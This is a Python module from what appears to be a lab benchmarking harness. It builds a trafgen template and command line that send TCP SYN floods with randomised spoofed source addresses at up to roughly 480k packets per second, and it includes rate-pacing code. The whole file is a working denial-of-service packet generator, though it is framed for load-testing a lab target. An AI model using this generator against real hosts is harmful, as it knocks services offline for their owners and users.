"""The SYN-flood generator: netsniff-ng's trafgen (PACKET_MMAP), spoofed random sources, paced or flat out.

Python's raw-socket flood tops out near 30-40k SYN/s here and hping3 near 110-150k; trafgen sends
about 480k SYN/s into an early drop on this 2-core VM, so it is not what saturates first.
"""

from __future__ import annotations

import shutil
from pathlib import Path

SPOOFED_SECOND_HALF = (198, 18)  # sources 198.18.128.0/17, the lab's spoofed range
SYN_OPTIONS = (0x02, 0x04, 0x05, 0xB4,  # MSS 1460
               0x04, 0x02,              # SACK permitted
               0x01, 0x03, 0x03, 0x07,  # NOP, window scale 7
               0x01, 0x01)              # NOP NOP: the header is 32 bytes, data offset 8
SLEEP_OVERHEAD_NS = 10_000
MIN_GAP_NS = 1_000


class GeneratorError(RuntimeError):
    pass


def trafgen_config(destination_mac: str, target: str, port: int) -> str:
    """One SYN template: random source in 198.18.128.0/17, source port, ISN and IP id per packet."""
    mac = ", ".join(f"0x{octet}" for octet in destination_mac.split(":"))
    target_bytes = ", ".join(target.split("."))
    options = ", ".join(f"0x{byte:02x}" for byte in SYN_OPTIONS)
    return (
        "{\n"
        f"  {mac},\n  0x02, 0x00, 0x00, 0x00, 0x00, 0x01,\n  c16(0x0800),\n"
        "  0x45, 0, c16(52), drnd(2), 0x40, 0, 64, 6, csumip(14, 33),\n"
        f"  {SPOOFED_SECOND_HALF[0]}, {SPOOFED_SECOND_HALF[1]}, dinc(128, 255), drnd(1),\n"
        f"  {target_bytes},\n"
        f"  drnd(2), c16({port}), drnd(4), c32(0),\n"
        "  c16(0x8002), c16(64240), csumtcp(14, 34), c16(0),\n"
        f"  {options},\n"
        "}\n")


def inter_packet_gap_ns(rate: int) -> int:
    """The gap that paces trafgen near ``rate``: its --rate sends each second's packets in one burst
    (9000 of 10000 within 0.2 s here), while --gap sleeps between packets, smoothly, but each sleep
    costs about 10 µs more than asked. Above ~60k/s the pacing is coarse: the sent rate is measured."""
    return max(MIN_GAP_NS, round(1e9 / rate) - SLEEP_OVERHEAD_NS)


def trafgen_argv(config: Path, interface: str, count: int, rate: int, cpu: int) -> list[str]:
    """trafgen on one CPU, sending ``count`` SYNs at about ``rate`` per second (0: as fast as it can)."""
    binary = shutil.which("trafgen")
    if binary is None:
        raise GeneratorError("trafgen not found: install Debian's netsniff-ng package")
    argv = ["taskset", "-c", str(cpu), binary, "--no-sock-mem", "--cpp", "--cpus", "1", "--in", str(config),
            "--out", interface, "--num", str(count)]
    return argv + (["--gap", f"{inter_packet_gap_ns(rate)}ns"] if rate else [])
